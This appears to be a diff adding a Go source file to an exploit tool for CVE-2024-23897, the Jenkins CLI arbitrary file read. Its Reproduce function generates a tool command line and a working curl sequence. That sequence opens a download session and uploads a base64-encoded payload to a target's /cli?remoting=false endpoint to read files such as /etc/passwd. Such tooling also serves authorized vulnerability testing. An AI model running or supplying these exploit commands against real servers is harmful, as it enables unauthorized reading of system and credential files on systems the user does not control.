@@ -0,0 +1,92 @@
+package scanner
+
+import (
+	"encoding/base64"
+	"fmt"
+	"github.com/wjlin0/CVE-2024-23897/pkg/output"
+	"github.com/wjlin0/CVE-2024-23897/pkg/types"
+	"net/url"
+	"sort"
+	"strings"
+)
+
+// shellQuote quotes s for a posix shell
+func shellQuote(s string) string {
+	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
+}
+
+// placeholder returns the placeholder of a secret, e.g. <COOKIE> for the Cookie header
+func placeholder(name string) string {
+	return "<" + strings.ToUpper(strings.ReplaceAll(strings.TrimSpace(name), " ", "_")) + ">"
+}
+
+// reproductionHeaders returns the sorted custom headers with placeholdered values
+func reproductionHeaders() []string {
+	var headers []string
+	for name := range types.Headers {
+		headers = append(headers, fmt.Sprintf("%s: %s", strings.TrimSpace(name), placeholder(name)))
+	}
+	sort.Strings(headers)
+	return headers
+}
+
+// reproductionProxy returns the proxy in use with its credentials placeholdered
+func reproductionProxy() string {
+	if types.ProxyURL == "" {
+		return ""
+	}
+	u, err := url.Parse(types.ProxyURL)
+	if err != nil {
+		return types.ProxyURL
+	}
+	if u.User != nil {
+		u.User = url.UserPassword("PROXY_USER", "PROXY_PASSWORD")
+		return strings.NewReplacer("PROXY_USER", "<PROXY_USER>", "PROXY_PASSWORD", "<PROXY_PASSWORD>").Replace(u.String())
+	}
+	return u.String()
+}
+
+// Reproduce sets the tool command line and the curl sequence reproducing the finding with the
+// technique, file, headers and proxy actually used for it, secrets are placeholdered
+func (s *Scanner) Reproduce(result *output.ResultEvent) {
+	mode, command, args := result.Mode, result.Command, result.Args
+	if mode == output.ModeCheck {
+		// 检测模式下 Response 为可以读取文件的命令
+		mode, command, args = output.ModeReadFile, result.Response, "/etc/passwd"
+	}
+	if command == "" || mode != output.ModeReadFile {
+		return
+	}
+	filename := strings.TrimLeft(args, "@")
+	headers, proxy := reproductionHeaders(), reproductionProxy()
+
+	tool := []string{"CVE-2024-23897", "-u", shellQuote(result.URL), "-c", shellQuote(command), "-a", shellQuote(filename)}
+	for _, header := range headers {
+		tool = append(tool, "-header", shellQuote(header))
+	}
+	if proxy != "" {
+		tool = append(tool, "-p", shellQuote(proxy))
+	}
+	if s.options != nil && s.options.Timeout != 0 && s.options.Timeout != 10 {
+		tool = append(tool, "-timeout", fmt.Sprint(s.options.Timeout))
+	}
+	result.Reproduce = strings.Join(tool, " ")
+
+	curl := []string{"curl", "-s", "-k"}
+	for _, header := range headers {
+		curl = append(curl, "-H", shellQuote(header))
+	}
+	if proxy != "" {
+		curl = append(curl, "-x", shellQuote(proxy))
+	}
+	endpoint := shellQuote(fmt.Sprintf("%s/cli?remoting=false", result.URL))
+	payload := base64.StdEncoding.EncodeToString(parseRequestData(mode, command, filename))
+	// download 先建立, upload 携带 payload 后 download 返回文件内容
+	result.ReproduceCurl = strings.Join([]string{
+		"SESSION=$(uuidgen 2>/dev/null || cat /proc/sys/kernel/random/uuid)",
+		fmt.Sprintf(`%s -N -X POST -H "Session: $SESSION" -H 'Side: download' %s --output - &`, strings.Join(curl, " "), endpoint),
+		"sleep 1",
+		fmt.Sprintf(`echo %s | base64 -d | %s -X POST -H "Session: $SESSION" -H 'Side: upload' -H 'Content-Type: application/octet-stream' --data-binary @- %s`, payload, strings.Join(curl, " "), endpoint),
+		"wait",
+	}, "\n")
+}